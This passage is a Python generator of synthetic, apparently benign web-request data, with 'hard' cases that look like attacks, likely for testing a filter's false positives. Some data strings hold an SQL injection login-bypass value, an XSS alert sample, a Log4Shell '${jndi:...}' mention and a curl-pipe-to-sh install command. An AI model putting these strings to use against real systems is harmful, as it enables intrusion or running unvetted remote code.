    ("Toronto", "M5V 2T6", "CA"),
    ("Kraków", "31-042", "PL"),
    ("Melbourne", "3000", "AU"),
    ("Seoul", "04524", "KR"),
    ("Tel Aviv", "6100000", "IL"),
    ("Cairo", "11511", "EG"),
    ("Zürich", "8001", "CH"),
    ("Mumbai", "400001", "IN"),
    ("Portland", "97205", "US"),
    ("Madrid", "28013", "ES"),
]
STREETS = [
    "Main St",
    "Rue de la République",
    "Hauptstraße",
    "Calle Mayor",
    "Baker Street",
    "Rua Augusta",
    "Elm Avenue",
    "Queen's Road",
    "Via Roma",
    "ul. Marszałkowska",
    "Harbour View Rd",
    "Kurfürstendamm",
    "Oak Lane",
    "King St W",
]
PRODUCTS = [
    "Merino wool beanie",
    "Ceramic pour-over set",
    "USB-C hub 7-in-1",
    "Trail running shoes",
    'Cast iron skillet 10"',
    "Noise-cancelling headphones",
    "Organic green tea (100g)",
    "Standing desk mat",
    "Kids' rain jacket",
    "LED desk lamp",
    "Yoga mat 6mm",
    "Espresso beans - dark roast",
    "Linen duvet cover",
    "Mechanical keyboard (TKL)",
    "Leather card holder",
    "Bamboo cutting board",
    "Wireless charging pad",
    "Hiking backpack 28L",
    "Cotton crew socks (3-pack)",
    "Glass meal-prep containers",
]
COMPANIES = [
    "Acme Corp",
    "Brightkettle Ltd",
    "Northwind Traders",
    "Fernhollow Media",
    "Smith & Sons",
    "Müller GmbH",
    "Tallowmere Inc.",
    "Orbitally",
    "Quillbase",
    "Harborline Bank",
    "Café Lumière",
    "Kettle & Crumb",
]
DOMAINS = [
    "gmail.com",
    "outlook.com",
    "yahoo.co.uk",
    "proton.me",
    "icloud.com",
    "web.de",
    "orange.fr",
    "example.org",
    "acme-corp.com",
    "uni-heidelberg.de",
    "company.co.jp",
    "mail.ru",
    "hey.com",
    "fastmail.fm",
]
SENT = [
    "We're excited to announce our autumn collection, available in stores from Friday.",
    "Our support team is available Monday to Friday, 9:00-17:00 CET.",
    "Read the full release notes below for details on what's changed.",
    "Thanks to everyone who joined the webinar last week!",
    "Der Versand ist ab 50 € Bestellwert kostenlos.",
    "Les inscriptions pour l'atelier de décembre sont ouvertes.",
    "¡Gracias por tu compra! Tu pedido llegará en 3-5 días hábiles.",
    "Nossa equipe está trabalhando para resolver o problema o mais rápido possível.",
    "本日より新しい料金プランをご利用いただけます。",
    "新版本修复了导出报表时的编码问题。",
    "이번 업데이트에서는 대시보드 성능이 개선되었습니다.",
    "نحن سعداء بالإعلان عن إطلاق تطبيقنا الجديد.",
    "אנחנו שמחים להודיע על השקת הגרסה החדשה.",
    "Мы обновили условия доставки для вашего региона.",
    "Bugünkü bakım çalışması 02:00'de tamamlanacaktır.",
    "Recipe tip: let the dough rest for at least 30 minutes 🍞",
    "Don't forget to RSVP by the 15th 🎉",
    "The Q3 numbers are in - revenue grew 12% year over year.",
    "Please review the attached proposal and share feedback by Thursday.",
    "Parking is available behind the building (entrance on Elm Ave).",
    "Our new opening hours are 8am-8pm, seven days a week.",
    "Volunteers: please sign in at the front desk when you arrive.",
    "The library will be closed on Monday for the public holiday.",
    "This guide walks you through setting up two-factor authentication.",
    "We've updated our privacy policy; the changes take effect on 1 January.",
    "Kindly note that prices include VAT where applicable.",
    "Il nostro nuovo negozio a Milano apre sabato prossimo!",
    "Wij zijn op zoek naar een enthousiaste collega voor ons team.",
    "Zapraszamy na dzień otwarty w naszej siedzibie w Krakowie.",
    "À bientôt et merci pour votre fidélité ! 😊",
]
WORDS = [
    "report",
    "budget",
    "roadmap",
    "invoice",
    "meeting",
    "design",
    "launch",
    "holiday",
    "summary",
    "draft",
    "contract",
    "onboarding",
    "feedback",
    "analytics",
    "newsletter",
    "release",
    "schedule",
    "inventory",
    "migration",
]


def person():
    return pick(FIRST), pick(LAST)


def email_of(first, last):
    loc = unicodedata.normalize("NFKD", (first + "." + last).lower()).replace("ø", "o").replace("ı", "i")
    loc = "".join(c for c in loc.encode("ascii", "ignore").decode() if c.isalnum() or c in ".-_").strip(".")
    if len(loc) < 3:
        loc = "user%d" % R.randrange(100, 99999)
    if R.random() < 0.2:
        loc += "+" + pick(["shop", "news", "work", "invoices", "2024"])
    return loc + "@" + pick(DOMAINS)


def bstyle(api_share=0.2):
    r = R.random()
    if r < 0.02:
        return "tool"
    return "api" if r < api_share else "browser"


class BI:
    def __init__(self, payload, at, hard=False, style=None, host=None, **spec):
        self.payload = payload
        self.at = at
        self.hard = hard
        self.style = style
        self.host = host
        self.spec = spec


# ---------------------------------------------------------------- richtext

IMG_HOSTS = [
    "https://cdn.fernhollow.org/uploads/2026/11/",
    "https://images.brightpage.news/",
    "https://media.saltmarsh-press.com/wp-content/uploads/2026/10/",
    "https://res.cloudinary.com/brightpage/image/upload/v1733/",
    "https://cdn.shopify.com/s/files/1/0612/4410/files/",
]
LINK_URLS = [
    "https://www.bbc.co.uk/news",
    "https://en.wikipedia.org/wiki/Sourdough",
    "https://developer.mozilla.org/en-US/docs/Web/HTML",
    "https://www.fernhollow.org/events/winter-market",
    "https://shop.larkspur-goods.com/collections/autumn?utm_source=newsletter&utm_medium=email",
    "https://docs.hexwright.io/guides/getting-started#install",
    "https://maps.google.com/?q=Elm+Ave+12",
    "https://www.gov.uk/vat-rates",
    "mailto:press@fernhollow.org?subject=Press%20enquiry",
    "tel:+441632960123",
    "/about-us",
    "/blog/2026/11/year-in-review",
]


def html_block():
    k = R.randrange(12)
    s = pick(SENT)
    if k == 0:
        return "<p>%s <strong>%s</strong></p>" % (
            s,
            pick(["Free returns.", "Limited spots!", "New!", "Important:", "Neu!"]),
        )
    if k == 1:
        return '<p>%s <a href="%s" target="_blank" rel="noopener noreferrer">%s</a>.</p>' % (
            s,
            pick(LINK_URLS),
            pick(["Learn more", "details here", "read the article", "mehr erfahren", "en savoir plus"]),
        )
    if k == 2:
        return "<h2>%s</h2>" % pick(
            ["What's new", "Highlights", "Agenda", "Neuigkeiten", "Nos conseils", "FAQ", "Schedule"]
        )
    if k == 3:
        return "<ul>%s</ul>" % "".join("<li>%s</li>" % pick(SENT) for _ in range(R.randrange(2, 5)))
    if k == 4:
        return '<p><img src="%s%s.%s" alt="%s" width="%d" height="%d"></p>' % (
            pick(IMG_HOSTS),
            rs(10),
            pick(["jpg", "png", "webp"]),
            pick(["Team photo", "Product shot", "Market stall", "Chart of Q3 revenue", ""]),
            pick([600, 800, 1200]),
            pick([400, 450, 675]),
        )
    if k == 5:
        rows = "".join(
            "<tr><td>%s</td><td>%s</td><td>%d</td></tr>"
            % (pick(WORDS).title(), pick(["Mon", "Tue", "Wed", "Thu", "Fri"]), R.randrange(1, 500))
            for _ in range(R.randrange(2, 5))
        )
        return (
            '<table class="table" style="border-collapse: collapse; width: 100%%;"><thead><tr><th>Item</th><th>Day</th><th>Qty</th></tr></thead><tbody>%s</tbody></table>'
            % rows
        )
    if k == 6:
        return "<blockquote><p>%s</p><p>— %s %s</p></blockquote>" % (pick(SENT), *person())
    if k == 7:
        return '<figure class="image"><img src="%s%s.jpg" alt=""><figcaption>%s</figcaption></figure>' % (
            pick(IMG_HOSTS),
            rs(12),
            pick(SENT),
        )
    if k == 8:
        vid = rs(11, string.ascii_letters + string.digits + "-_")
        return (
            '<p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/%s" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></p>'
            % vid
        )
    if k == 9:
        return '<p style="text-align: center;"><span style="color: #%s;">%s</span></p>' % (rhex(6), s)
    if k == 10:
        return '<p class="ql-align-justify">%s<br>%s</p>' % (s, pick(SENT))
    return "<!-- wp:paragraph -->\n<p>%s <em>%s</em></p>\n<!-- /wp:paragraph -->" % (
        s,
        pick(["(updated)", "— thanks!", "see below", "bis bald"]),
    )


def rich_normal():
    html = "".join(html_block() for _ in range(R.randrange(2, 5)))
    title = pick(
        [
            "Winter market is back",
            "Release 4.2",
            "Weekly digest",
            "Store opening",
            "Neuer Standort",
            "Notre équipe s'agrandit",
            "Holiday hours",
            "Behind the scenes",
        ]
    )
    r = R.random()
    host = pick(HOSTS["cms"])
    if r < 0.55:
        return BI(
            html,
            "json",
            host=host,
            method=pick(["POST", "PUT"]),
            path=pick(
                [
                    "/api/v1/posts",
                    "/wp-json/wp/v2/posts/%d" % R.randrange(100, 9999),
                    "/api/v1/pages/%d" % R.randrange(1, 300),
                ]
            ),
            json={
                "title": title,
                "content": P,
                "status": pick(["draft", "publish", "pending"]),
                "tags": R.sample(WORDS, 2),
            },
        )
    if r < 0.8:
        return BI(
            html,
            "form",
            host=host,
            path="/admin/posts/%d/edit" % R.randrange(1, 999),
            form=[
                ("_token", rs(40, string.ascii_letters + string.digits)),
                ("title", title),
                ("body", P),
                ("publish", "1"),
            ],
        )
    if r < 0.9:
        return BI(
            html,
            "xml",
            host=host,
            path="/api/atom/entries",
            ctype="application/atom+xml",
            cdata=False,
            xml='<?xml version="1.0" encoding="utf-8"?>\n<entry xmlns="http://www.w3.org/2005/Atom">\n  <title>%s</title>\n  <id>urn:uuid:%s</id>\n  <updated>%s</updated>\n  <content type="html">{}</content>\n</entry>'
            % (title.replace("'", "&apos;"), ruuid(), ts()),
        )
    if r < 0.96:
        return BI(
            html,
            "mp_field",
            host=host,
            path="/api/v1/newsletters",
            mp={"fields": [("subject", title), ("segment", "all-subscribers")], "field": "html_body"},
        )
    return BI(
        html, "json_deep", host=host, method="PUT", path="/api/v1/pages/home/blocks", json={"page": "home", "layout": P}
    )


def rich_hard():
    L = [
        "<p>Cross-site scripting (XSS) happens when an app echoes input like <code>&lt;script&gt;alert(1)&lt;/script&gt;</code> without escaping it. Always encode output.</p>",
        "<h2>Why we sanitize HTML</h2><p>An attribute such as <code>onerror=</code> on an <code>&lt;img&gt;</code> tag can run JavaScript, so our editor strips event handlers.</p>",
        "<p>To run the report, use <code>SELECT region, SUM(total) FROM orders WHERE status = 'shipped' GROUP BY region;</code> in the BI tool.</p>",
        '<p>Pasted screenshot:</p><p><img src="data:image/png;base64,%s" alt="screenshot"></p>'
        % b64(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rbytes(60)),
        "<p>Quick fix: run <code>rm -rf node_modules &amp;&amp; npm ci</code> and restart the dev server.</p>",
        '<p><iframe src="https://player.vimeo.com/video/%d?h=%s&amp;title=0&amp;byline=0" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe></p>'
        % (R.randrange(10**8, 10**9), rhex(10)),
        "<p>Tom &amp; Jerry's Diner — 2 eggs &lt;3 min, toast &amp; jam, coffee refills &gt; 2 cost extra.</p>",
        "<table><tr><td>Total</td><td>=SUM(B2:B9)</td></tr><tr><td>Average</td><td>=AVERAGE(B2:B9)</td></tr></table>",
        '<p>Contact <a href="mailto:events@fernhollow.org?subject=RSVP%20-%20Winter%20Market&amp;body=Name%3A%20">events@fernhollow.org</a></p>',
        "<p>In PHP, use <code>htmlspecialchars($name, ENT_QUOTES, 'UTF-8')</code> before printing user data; never <code>echo $_GET['name']</code> directly.</p>",
        "<p>The <code>&lt;iframe&gt;</code> element's <code>sandbox</code> attribute restricts scripts; combine it with a CSP such as <code>script-src 'self'</code>.</p>",
        "<blockquote><p>\"Don't trust user input\" — every security training ever.</p></blockquote><p>Here's how we validate uploads: check the MIME type, the extension and the size.</p>",
        '<p>Join us: <a href="https://www.fernhollow.org/events?date=2026-12-12&amp;time=18:00&amp;ref=homepage#register">register here</a> (use code <strong>WINTER-25%</strong>).</p>',
        '<pre><code class="language-bash">curl -sS https://api.ledgerloop.io/v1/invoices \\\n  -H "Authorization: Bearer $TOKEN" | jq \'.data[] | .id\'</code></pre>',
        '<pre><code class="language-html">&lt;a href="javascript:void(0)" onclick="openMenu()"&gt;Menu&lt;/a&gt;</code></pre><p>Avoid this pattern; use a real <code>&lt;button&gt;</code>.</p>',
        "<p>Windows users: the config lives in <code>C:\\Users\\%USERNAME%\\AppData\\Roaming\\Quillbase\\settings.json</code>.</p>",
        "<p>We'll discuss the <em>union</em> contract, then <em>select</em> a venue and <em>drop</em> the old schedule.</p>",
        "<p>Der Artikel erklärt SQL-Injection: Ein Angreifer gibt etwa <code>' OR '1'='1</code> ein, um eine Anmeldung zu umgehen. Prepared Statements verhindern das.</p>",
        "<p>L'équipe d'O'Reilly a publié « l'essentiel » aujourd'hui ; c'est gratuit jusqu'au 31/12.</p>",
        "<ol><li>Open <code>/etc/hosts</code> with sudo</li><li>Add <code>127.0.0.1 myapp.local</code></li><li>Reload the browser</li></ol>",
        '<p>Embedded map:</p><p><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2429.1!2d13.40!3d52.52!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1" width="600" height="450" style="border:0;" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe></p>',
        "<p>Template tip: write <code>{{ customer.first_name }}</code> in the subject line to personalise it.</p>",
        "<p>Our Log4j statement: we were never affected by CVE-2021-44228 because no service uses log4j-core; strings like <code>${jndi:...}</code> in logs are harmless for us.</p>",
        "<p>Math corner: if x &lt; 5 and y &gt; 2, then x - y &lt; 3. Also 2 &lt;= 3 &amp;&amp; 4 &gt;= 1.</p>",
        '<p><a href="https://shop.larkspur-goods.com/account/login?return_to=%2Faccount%2Forders%3Fpage%3D2">Sign in to see your orders</a></p>',
        "<p>Here is the <strong>path</strong> to the file: <code>../assets/img/logo.svg</code> (relative to the theme folder).</p>",
    ]
    out = []
    for i, html in enumerate(L):
        host = pick(HOSTS["cms"])
        if i % 3 == 0:
            out.append(
                BI(
                    html,
                    "json",
                    True,
                    host=host,
                    method="PUT",
                    path="/api/v1/articles/%d" % R.randrange(10, 9999),
                    json={
                        "title": pick(
                            ["Security basics", "Help center", "Reporting tips", "Dev notes", "Announcements"]
                        ),
                        "body_html": P,
                        "locale": pick(["en", "de", "fr"]),
                    },
                )
            )
        elif i % 3 == 1:
            out.append(
                BI(
                    html,
                    "form",
                    True,
                    host=host,
                    path="/wp-admin/post.php",
                    form=[
                        ("post_ID", str(R.randrange(100, 9999))),
                        ("action", "editpost"),
                        ("content", P),
                        ("_wpnonce", rhex(10)),
                    ],
                )
            )
        else:
            out.append(
                BI(
                    html,
                    "json",
                    True,
                    host=host,
                    method="POST",
                    path="/api/v1/kb/articles",
                    json={"article": {"title": "Untitled", "sections": [{"type": "html", "html": P}]}},
                )
            )
    return out


# ---------------------------------------------------------------- markdown

MD_LANGS = ["python", "bash", "js", "sql", "yaml", "json", "go", "ts"]


def md_code(lang):
    n = rs(5, string.ascii_lowercase)
    if lang == "python":
        return "def %s(items):\n    return sorted(items, key=lambda x: x['%s'])\n" % (
            n,
            pick(["date", "price", "name"]),
        )
    if lang == "bash":
        return "npm install\nnpm run build -- --mode %s\n" % pick(["production", "staging"])
    if lang == "js":
        return "const %s = await fetch('/api/v1/%s').then(r => r.json());\nconsole.log(%s.length);\n" % (
            n,
            pick(WORDS),
            n,
        )
    if lang == "sql":
        return "SELECT id, email FROM customers WHERE created_at > '2026-%02d-01' ORDER BY id LIMIT %d;\n" % (
            R.randrange(1, 12),
            R.randrange(10, 100),
        )
    if lang == "yaml":
        return "service: %s\nreplicas: %d\nimage: registry.stackyard.dev/%s:1.%d.0\n" % (
            n,
            R.randrange(1, 6),
            n,
            R.randrange(0, 30),
        )
    if lang == "json":
        return '{\n  "name": "%s",\n  "version": "0.%d.0",\n  "private": true\n}\n' % (n, R.randrange(1, 40))
    if lang == "go":
        return (
            "func %s(w http.ResponseWriter, r *http.Request) {\n\tw.WriteHeader(http.StatusNoContent)\n}\n" % n.title()
        )
    return "export interface %s {\n  id: string;\n  createdAt: Date;\n}\n" % n.title()


def md_normal():
    parts = [
        "## "
        + pick(
            [
                "Summary",
                "Steps to reproduce",
                "Expected behaviour",
                "Installation",
                "Changelog",
                "Notes",
                "Motivation",
                "Beschreibung",
            ]
        )
    ]
    for _ in range(R.randrange(2, 5)):
        k = R.randrange(6)
        if k == 0:
            parts.append(pick(SENT))
        elif k == 1:
            parts.append("\n".join("- " + pick(["[x] ", "[ ] ", ""]) + pick(SENT) for _ in range(R.randrange(2, 4))))
        elif k == 2:
            lang = pick(MD_LANGS)
            parts.append("```%s\n%s```" % (lang, md_code(lang)))
        elif k == 3:
            parts.append(
                "See [%s](https://docs.hexwright.io/%s/%s) for details."
                % (pick(["the docs", "this guide", "PR #%d" % R.randrange(100, 5000)]), pick(WORDS), rs(6))
            )
        elif k == 4:
            parts.append(
                "| Env | Status |\n|-----|--------|\n| staging | %s |\n| prod | %s |"
                % (pick(["✅", "ok", "green"]), pick(["⚠️ degraded", "ok", "pending"]))
            )
        else:
            parts.append(
                "> %s\n\n![screenshot](https://user-images.gitforge.dev/%d/%s.png)"
                % (pick(SENT), R.randrange(10**6, 10**7), ruuid())
            )
    md = "\n\n".join(parts) + "\n"
    r = R.random()
    host = pick(HOSTS["dev"] + HOSTS["saas"])
    if r < 0.5:
        return BI(
            md,
            "json",
            host=host,
            path="/api/v1/repos/%s/issues/%d/comments"
            % (pick(["web", "billing-service", "infra"]), R.randrange(1, 4000)),
            json={"body": P},
        )
    if r < 0.7:
        return BI(
            md,
            "json",
            host=host,
            method="PATCH",
            path="/api/v1/wiki/pages/%s" % pick(WORDS),
            json={"title": pick(WORDS).title(), "content": P, "format": "markdown"},
        )
    if r < 0.85:
        return BI(
            md,
            "mp_file",
            host=host,
            path="/api/v1/projects/%d/files" % R.randrange(1, 500),
            mp={
                "fields": [("branch", "main"), ("message", "Update README")],
                "file": ("file", "README.md", "text/markdown", ""),
            },
        )
    return BI(
        md,
        "form",
        host=host,
        path="/discussions/%d/reply" % R.randrange(1, 900),
        form=[("authenticity_token", rs(43)), ("comment[body]", P)],
    )


def md_hard():
    L = [
        "## Install\n\n```bash\ncurl -fsSL https://get.hexwright.io/install.sh | sh\n```\n\nThen run `hexwright login`.\n",
        "Clear the cache:\n\n```sh\nsudo rm -rf /var/cache/apt/archives/*.deb && sudo apt-get clean\n```\n",
        "Migration `0042_drop_legacy.sql`:\n\n```sql\nDROP TABLE IF EXISTS legacy_sessions;\nALTER TABLE users DROP COLUMN old_password_hash;\n```\n",
        "CSP note: inline `<script>` tags are blocked, so move this into `app.js`:\n\n```html\n<script>window.dataLayer = window.dataLayer || [];</script>\n```\n",
        '```bash\ndocker run --rm -v "$(pwd)":/src -w /src node:20 npm test\n```\n',
        "CI config:\n\n```yaml\n- name: Deploy\n  run: ./deploy.sh\n  env:\n    TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n```\n",
        "Helm values use `{{ .Values.image.tag }}`; don't hardcode `latest`.\n",
        "See [setup](../guide/setup.md) and [FAQ](../../faq.md#proxy) before opening an issue.\n",
        "<details>\n<summary>Full log</summary>\n\n```\nError: ENOENT: no such file or directory, open '/app/.env'\n```\n</details>\n",
        "The query `?filter[status]=active&sort=-created_at` returns newest first.\n",
        "Reproduce with:\n\n```bash\nfor i in $(seq 1 20); do curl -s -o /dev/null -w '%{http_code}\\n' https://staging.quillbase.io/health; done\n```\n",
        "Use `find . -name '*.log' -mtime +7 -delete` to rotate old logs.\n",
        '```python\nimport subprocess\nsubprocess.run(["git", "fetch", "--all"], check=True)\n```\n',
        "Regex for emails (simplified): `^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$`\n",
        "### Known issue\n\nNames like O'Connor broke the search because the apostrophe wasn't escaped; fixed in #4412 by using bound parameters.\n",
        "```js\nel.innerHTML = DOMPurify.sanitize(userHtml); // never assign raw input to innerHTML\n```\n",
        "Windows: `set PATH=%PATH%;C:\\tools\\bin` then `where node`.\n",
        "```nginx\nlocation /api/ {\n    proxy_pass http://127.0.0.1:8080/;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}\n```\n",
        "PowerShell:\n\n```powershell\nGet-ChildItem -Path C:\\logs -Filter *.txt | Remove-Item -WhatIf\n```\n",
        "LDAP filter we use for the sync: `(&(objectClass=user)(memberOf=CN=Staff,OU=Groups,DC=corp,DC=example))`\n",
        "```php\n<?php\n$stmt = $pdo->prepare('SELECT * FROM posts WHERE slug = ?');\n$stmt->execute([$slug]);\n```\n",
        "Env example:\n\n```\nDATABASE_URL=postgres://app:app@localhost:5432/app_dev\nREDIS_URL=redis://127.0.0.1:6379/0\n```\n",
        "Try `SELECT 1;` first to verify the connection, then `\\dt` to list tables in psql.\n",
        "## Security\n\nPlease report vulnerabilities (XSS, SQLi, SSRF, RCE) to security@hexwright.io rather than opening a public issue.\n",
        "`${HOME}/.config/hexwright/config.toml` overrides `/etc/hexwright/config.toml`.\n",
    ]
    out = []
    for i, md in enumerate(L):
        host = pick(HOSTS["dev"])
        if i % 2:
            out.append(
                BI(
                    md,
                    "json",
                    True,
                    host=host,
                    path="/api/v1/repos/%s/pulls/%d/comments" % (pick(["api", "web", "docs"]), R.randrange(1, 3000)),
                    json={"body": P, "commit_id": rhex(40)},
                )
            )
        else:
            out.append(
                BI(
                    md,
                    "json",
                    True,
                    host=host,
                    method="PUT",
                    path="/api/v1/docs/%s" % rs(8),
                    json={"path": "docs/%s.md" % pick(WORDS), "content": P, "message": "docs: update"},
                )
            )
    return out


# ---------------------------------------------------------------- code


def code_normal():
    lang = pick(
        [
            "python",
            "javascript",
            "go",
            "rust",
            "css",
            "yaml",
            "dockerfile",
            "toml",
            "java",
            "kotlin",
            "typescript",
            "ruby",
            "csharp",
            "swift",
        ]
    )
    n = rs(R.randrange(4, 8), string.ascii_lowercase)
    m = R.randrange(2, 200)
    tpl = {
        "python": "from dataclasses import dataclass\n\n@dataclass\nclass %s:\n    id: int\n    name: str\n    qty: int = %d\n\n    def total(self, price: float) -> float:\n        return round(self.qty * price, 2)\n"
        % (n.title(), m),
        "javascript": "export function %s(list) {\n  return list\n    .filter((x) => x.active)\n    .map((x) => ({ ...x, label: x.name.trim() }))\n    .slice(0, %d);\n}\n"
        % (n, m),
        "go": 'package %s\n\nimport "time"\n\ntype Job struct {\n\tID      string\n\tRetries int\n\tDelay   time.Duration\n}\n\nconst maxRetries = %d\n'
        % (n, m),
        "rust": "pub fn %s(v: &[u32]) -> u32 {\n    v.iter().copied().filter(|x| x %% 2 == 0).sum::<u32>() + %d\n}\n"
        % (n, m),
        "css": ".%s {\n  display: grid;\n  grid-template-columns: repeat(auto-fill, minmax(%dpx, 1fr));\n  gap: 1rem;\n}\n"
        % (n, m + 100),
        "yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: %s\nspec:\n  replicas: %d\n  template:\n    spec:\n      containers:\n        - name: web\n          image: registry.stackyard.dev/%s:2.%d\n"
        % (n, m % 5 + 1, n, m),
        "dockerfile": 'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nEXPOSE %d\nCMD ["gunicorn", "%s.wsgi"]\n'
        % (8000 + m, n),
        "toml": '[package]\nname = "%s"\nversion = "0.%d.0"\nedition = "2021"\n\n[dependencies]\nserde = { version = "1", features = ["derive"] }\n'
        % (n, m),
        "java": 'public record %s(String id, int quantity) {\n    public %s {\n        if (quantity < 0) throw new IllegalArgumentException("quantity");\n    }\n}\n'
        % (n.title(), n.title()),
        "kotlin": "data class %s(val id: Long, val tags: List<String> = emptyList())\n\nfun List<%s>.byTag(t: String) = filter { t in it.tags }.take(%d)\n"
        % (n.title(), n.title(), m),
        "typescript": "type %s = { id: string; amount: number };\nconst sum = (xs: %s[]) => xs.reduce((a, b) => a + b.amount, 0) / %d;\n"
        % (n.title(), n.title(), m),
        "ruby": "class %s < ApplicationRecord\n  belongs_to :account\n  validates :name, presence: true, length: { maximum: %d }\nend\n"
        % (n.title(), m),
        "csharp": "public sealed class %s\n{\n    public Guid Id { get; init; }\n    public decimal Price { get; set; } = %d.99m;\n}\n"
        % (n.title(), m),
        "swift": "struct %s: Codable {\n    let id: UUID\n    var title: String\n    var count: Int = %d\n}\n"
        % (n.title(), m),
    }[lang]
    r = R.random()
    host = pick(HOSTS["dev"])
    if r < 0.5:
        return BI(
            tpl,
            "json",
            host=host,
            path="/api/v1/snippets",
            json={
                "title": "%s.%s" % (n, lang[:2]),
                "language": lang,
                "content": P,
                "visibility": pick(["private", "internal", "public"]),
            },
        )
    if r < 0.75:
        return BI(
            tpl,
            "json",
            host=host,
            path="/api/v1/reviews/%d/comments" % R.randrange(1, 9000),
            json={"file": "src/%s" % n, "line": R.randrange(1, 300), "suggestion": P},
        )
    return BI(
        tpl,
        "mp_file",
        host=host,
        path="/api/v1/gists",
        mp={
            "fields": [("description", "%s helper" % n)],
            "file": (
                "file",
                "%s.%s" % (n, {"python": "py", "javascript": "js", "go": "go", "rust": "rs"}.get(lang, "txt")),
                "text/plain",
                "",
            ),
        },
    )


def code_hard():
    L = [
        (
            "sql",
            "SELECT c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\nWHERE o.created_at >= NOW() - INTERVAL '30 days'\nGROUP BY c.name\nHAVING COUNT(o.id) > 3\nORDER BY orders DESC;",
        ),
        ("sql", "SELECT id FROM events_2025\nUNION ALL\nSELECT id FROM events_2026;"),
        ("sql", "-- cleanup\nDELETE FROM sessions WHERE expires_at < now();\nVACUUM ANALYZE sessions;"),
        ("bash", '#!/usr/bin/env bash\nset -euo pipefail\nfor f in /var/log/app/*.log; do\n  gzip -9 "$f"\ndone\n'),
        ("bash", "cat access.log | awk '{print $1}' | sort | uniq -c | sort -rn | head -20"),
        (
            "bash",
            'export PATH="$HOME/.local/bin:$PATH"\nwhich python3 && python3 -m venv .venv && . .venv/bin/activate',
        ),
        (
            "python",
            'import subprocess\n\nout = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()\nprint(out)\n',
        ),
        ("python", "import os\nBASE = os.path.join(os.path.dirname(__file__), '..', 'templates')\n"),
        ("python", 'cursor.execute("SELECT * FROM users WHERE email = %s", (email,))'),
        ("python", "data = yaml.safe_load(open('config.yml'))\nassert data['version'] >= 2"),
        (
            "php",
            "<?php\nfunction e(string $s): string {\n    return htmlspecialchars($s, ENT_QUOTES, 'UTF-8');\n}\necho '<p>' . e($comment) . '</p>';\n",
        ),
        (
            "php",
            "<?php\n$files = scandir(__DIR__ . '/uploads');\nforeach ($files as $f) { if ($f[0] !== '.') echo $f, PHP_EOL; }\n",
        ),
        (
            "java",
            'ProcessBuilder pb = new ProcessBuilder("git", "status", "--short");\npb.directory(new File(repoPath));\nProcess p = pb.start();',
        ),
        ("java", '@Value("${app.upload.dir:/tmp/uploads}")\nprivate String uploadDir;'),
        ("java", 'logger.info("User {} logged in from {}", user.getId(), request.getRemoteAddr());'),
        (
            "javascript",
            "const html = `<li data-id=\"${item.id}\">${escapeHtml(item.name)}</li>`;\nlist.insertAdjacentHTML('beforeend', html);",
        ),
        (
            "javascript",
            "const { execFile } = require('node:child_process');\nexecFile('convert', [input, '-resize', '50%', output], cb);",
        ),
        ("javascript", "document.cookie = `theme=${theme}; path=/; max-age=31536000; SameSite=Lax`;"),
        (
            "yaml",
            "server:\n  port: ${PORT:8080}\nspring:\n  datasource:\n    url: jdbc:postgresql://localhost:5432/app\n    username: ${DB_USER}\n",
        ),
        (
            "ini",
            "[mysqld]\nbind-address = 127.0.0.1\nmax_connections = 200\nslow_query_log_file = /var/log/mysql/slow.log\n",
        ),
        (
            "nginx",
            "server {\n    listen 443 ssl;\n    root /var/www/html;\n    location ~ \\.php$ {\n        fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n    }\n}\n",
        ),
        ("ruby", 'User.where("name LIKE ?", "%#{sanitize_sql_like(q)}%").limit(20)'),
        (
            "xml",
            "<dependency>\n  <groupId>org.apache.logging.log4j</groupId>\n  <artifactId>log4j-core</artifactId>\n  <version>2.24.1</version>\n</dependency>",
        ),
        ("powershell", "Get-Process | Where-Object { $_.CPU -gt 100 } | Select-Object Name, Id, CPU"),
        ("crontab", "*/5 * * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1"),
        ("makefile", "test:\n\tpytest -q --maxfail=1 && rm -rf .pytest_cache\n"),
    ]
    out = []
    for i, (lang, src) in enumerate(L):
        host = pick(HOSTS["dev"])
        if i % 3 == 2:
            out.append(
                BI(src, "form", True, host=host, path="/paste", form=[("syntax", lang), ("expiry", "1w"), ("code", P)])
            )
        else:
            out.append(
                BI(
                    src,
                    "json",
                    True,
                    host=host,
                    path=pick(["/api/v1/snippets", "/api/v1/queries/saved", "/api/v1/notebooks/cells"]),
                    json={"name": "%s-%s" % (pick(WORDS), rs(4)), "language": lang, "source": P},
                )
            )
    return out


# ---------------------------------------------------------------- search

SEARCH_TERMS = [
    "wool socks",
    "running shoes size 44",
    "usb c cable 2m",
    "red dress",
    "coffee grinder burr",
    "kids bike 16 inch",
    "standing desk",
    "iphone 15 case",
    "gluten free pasta",
    "winter jacket men",
    "laptop sleeve 14",
    "bluetooth speaker waterproof",
    "Laufschuhe Damen",
    "chaussures de randonnée",
    "zapatillas niño",
    "fone de ouvido",
    "ワイヤレスイヤホン",
    "保温杯",
    "노트북 거치대",
    "حقيبة ظهر",
    "מחבת",
    "чайник электрический",
    "yoga mat",
    "garden hose 30m",
    "led strip",
    "ergonomic chair",
    "invoice 2026-11",
    "refund policy",
    "shipping to canada",
    "gift card balance",
    "black friday deals",
    "vegan protein",
]


def search_normal():
    t = pick(SEARCH_TERMS)
    if R.random() < 0.5:
        t += " " + pick(
            [
                "cheap",
                "best",
                "2026",
                "sale",
                "xl",
                "blue",
                "organic",
                "bundle",
                "near me",
                "review",
                "für kinder",
                "pas cher",
                "set",
            ]
        )
